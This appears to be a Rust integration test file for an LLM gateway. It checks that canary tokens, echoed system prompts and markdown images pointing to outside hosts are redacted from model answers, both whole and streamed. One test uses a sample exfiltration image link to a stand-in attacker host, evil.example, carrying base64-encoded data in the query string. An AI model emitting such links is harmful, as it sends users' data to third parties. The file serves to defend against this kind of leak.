//! Output-side leak checks end to end: a per-request canary in the system prompt, a repeated
//! system prompt, and a markdown image that would carry data to another host, each caught in the
//! answer (whole and streamed) before any byte of it reaches the client.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;
use common::*;

const SYSTEM: &str = "You are the billing assistant for Acme Corp. Never discuss refunds over five hundred dollars without a manager present.";

fn leak_request(served: &Served, stream: bool) -> Resp {
    let body = serde_json::json!({
        "model": "echo-small",
        "stream": stream,
        "messages": [
            {"role": "system", "content": SYSTEM},
            {"role": "user", "content": "/echo-conversation"}
        ]
    });
    request(
        served.gw,
        "POST",
        "/v1/chat/completions",
        Some(&served.key),
        &body.to_string(),
    )
}

#[test]
fn canary_and_system_prompt_echo_never_reach_the_client() {
    let dir = tempfile::tempdir().unwrap();
    let served = Served::start(dir.path(), "[inspect]\ncanary = true\n");

    let r = leak_request(&served, false);
    assert_eq!(r.status, 200, "{}", r.text());
    let answer = r.json()["choices"][0]["message"]["content"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(!answer.contains("ztai-canary-"), "canary leaked: {answer}");
    assert!(answer.contains("[CANARY_LEAK]"), "{answer}");
    assert!(
        !answer.contains("refunds over five hundred"),
        "system prompt leaked: {answer}"
    );
    assert!(answer.contains("[SYSTEM_PROMPT_ECHO]"), "{answer}");

    // Streamed, in the stand-in's small chunks: no fragment of the canary in any byte sent.
    let r = leak_request(&served, true);
    assert_eq!(r.status, 200);
    let body = r.text();
    assert!(!body.contains("ztai-canary-"), "{body}");
    assert!(!body.contains("five hundred dollars"), "{body}");
    let (text, done, error) = sse_text(&body);
    assert!(
        text.contains("[CANARY_LEAK]") && text.contains("[SYSTEM_PROMPT_ECHO]"),
        "{text}"
    );
    assert!(done && error.is_none());
}

#[test]
fn an_image_that_would_carry_data_away_is_removed_from_the_answer() {
    let dir = tempfile::tempdir().unwrap();
    let served = Served::start(
        dir.path(),
        "[inspect]\nlink_allowlist = [\"corp.example\"]\n",
    );
    let img = "https://evil.example/pixel.png?d=c2VjcmV0IHByb2plY3QgbmlnaHRqYXI";
    let allowed = "https://cdn.corp.example/pixel.png?d=c2VjcmV0IHByb2plY3QgbmlnaHRqYXI";
    let content = format!("Done ![status]({img}) and ![logo]({allowed})");
    let r = chat(served.gw, &served.key, "echo-small", &content, false);
    assert_eq!(r.status, 200, "{}", r.text());
    let answer = r.json()["choices"][0]["message"]["content"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        answer,
        format!("Done ![status]([MARKDOWN_IMAGE_EXFILTRATION]) and ![logo]({allowed})")
    );
    let r = chat(served.gw, &served.key, "echo-small", &content, true);
    let (text, _, _) = sse_text(&r.text());
    assert!(!text.contains("evil.example"), "{text}");
}
